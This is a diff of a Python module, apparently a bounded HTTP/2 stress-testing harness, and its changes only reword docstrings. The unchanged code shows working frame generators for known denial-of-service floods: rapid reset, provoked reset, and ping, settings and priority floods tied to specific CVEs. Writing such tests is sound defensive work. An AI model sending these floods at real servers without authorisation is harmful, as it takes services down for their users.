@@ -1,4 +1,4 @@
-"""HTTP/2 attacks: hand-made frames (RFC 9113), bounded in number and time."""
+"""HTTP/2 as an attacker speaks it: hand-made frames (RFC 9113), bounded in number and time."""
 
 from __future__ import annotations
 
@@ -26,12 +26,12 @@ def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 
 
 def literal(name: bytes, value: bytes) -> bytes:
-    """A header field without indexing or compression (RFC 7541, 6.2.2). Name and value have at most 126 bytes."""
+    """A literal header field without indexing or compression (RFC 7541, 6.2.2); both parts below 127 bytes."""
     return b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
 
 
 def call(path: str) -> bytes:
-    """The headers of a call. The path has at most 126 bytes."""
+    """The headers of a call whose path is below 127 bytes."""
     return b"".join(
         literal(name, value)
         for name, value in (
@@ -49,7 +49,7 @@ CALL: Final = call(PATH)
 
 
 class Peer:
-    """A connection after the HTTP/2 preface that reads nothing unless told to."""
+    """A connection that has sent the preface and reads nothing unless told to."""
 
     def __init__(self, address: str, settings: bytes = b"") -> None:
         host, _, port = address.rpartition(":")
@@ -76,7 +76,7 @@ class Peer:
         self.socket.settimeout(0.5)
 
     def hears(self, words: bytes) -> bool:
-        """Whether the server sends these bytes before long."""
+        """Whether the server sends these bytes within some seconds."""
         self.socket.settimeout(10)
         got = b""
         while words not in got:
@@ -92,37 +92,37 @@ class Peer:
 
 
 def calls(message: bytes, flags: int = END_STREAM) -> Iterator[bytes]:
-    """Complete calls, each on a stream of its own."""
+    """A complete call on a new stream."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(DATA, flags, stream, _message(message))
 
 
 def rapid_resets() -> Iterator[bytes]:
-    """Calls that are started and cancelled (CVE-2023-44487)."""
+    """Calls that the client resets at once (CVE-2023-44487)."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
 def provoked_resets() -> Iterator[bytes]:
-    """Calls that are started and then make the server cancel them (CVE-2025-8671)."""
+    """Calls with an invalid frame, which makes the server reset them (CVE-2025-8671)."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
 
 
 def pings() -> Iterator[bytes]:
-    """Pings, each of which has to be answered (CVE-2019-9512)."""
+    """Pings, each of which needs an answer (CVE-2019-9512)."""
     for number in count():
         yield frame(PING, 0, 0, struct.pack(">Q", number))
 
 
 def settings() -> Iterator[bytes]:
-    """Settings, each of which has to be acknowledged (CVE-2019-9515)."""
+    """Settings, each of which needs an acknowledgement (CVE-2019-9515)."""
     for number in count():
         yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))
 
 
 def priorities() -> Iterator[bytes]:
-    """Changes of the priority of streams that do not exist (CVE-2019-9513)."""
+    """Priority changes of streams that do not exist (CVE-2019-9513)."""
     for stream in count(1, 2):
         yield frame(PRIORITY, 0, stream % (1 << 30), struct.pack(">IB", 0, stream % 256))
 
@@ -150,7 +150,7 @@ def a_gibibyte() -> Iterator[bytes]:
 
 
 def many_streams() -> Iterator[bytes]:
-    """Calls that are started and never continue."""
+    """Calls that are started and never continued."""
     for stream in count(1, 2):
         yield frame(HEADERS, END_HEADERS, stream, CALL)
 
@@ -177,5 +177,5 @@ FLOODS: Final[dict[str, tuple[Callable[[], Iterator[bytes]], int]]] = {
 
 
 def _message(content: bytes) -> bytes:
-    """A length-prefixed gRPC message."""
+    """A message with the length prefix of gRPC."""
     return b"\0" + struct.pack(">I", len(content)) + content
